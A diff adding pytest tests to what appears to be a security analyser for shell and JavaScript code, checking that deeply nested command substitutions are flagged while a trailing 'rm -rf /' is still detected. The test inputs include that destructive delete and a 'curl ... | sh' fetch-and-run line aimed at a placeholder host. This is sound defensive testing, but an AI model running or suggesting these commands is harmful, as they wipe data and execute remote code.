@@ -109,3 +109,21 @@ def test_more_decoded_code_than_is_read_is_still_decoded_code() -> None:
     assert ("js-eval", Level.HIGH) in {
         (one.rule, one.severity) for one in analyse(code, Language.JAVASCRIPT).violations
     }
+
+
+@pytest.mark.parametrize("opening", ["$(", 'echo "$(', "<("])
+@pytest.mark.parametrize("closed", [True, False])
+def test_substitutions_within_hundreds_of_others_are_not_read_and_said(opening: str, closed: bool) -> None:
+    """They would be read once for every one around them; a flat line behind them is read."""
+    closing = (')"' if '"' in opening else ")") * (5000 if closed else 0)
+    found = analyse(f"{opening * 5000}x{closing}\nrm -rf /\n", Language.SHELL)
+    rules = {one.rule for one in found.violations}
+    assert "input-too-deep" in rules
+    assert closed <= ("sh-rm-tree" in rules)
+
+
+def test_substitutions_that_a_person_writes_are_read() -> None:
+    """A few within each other are no nesting to speak of."""
+    found = analyse('echo "$(a "$(b "$(c "$(curl http://a.example | sh)")")")"\n', Language.SHELL)
+    assert "input-too-deep" not in {one.rule for one in found.violations}
+    assert found.complete
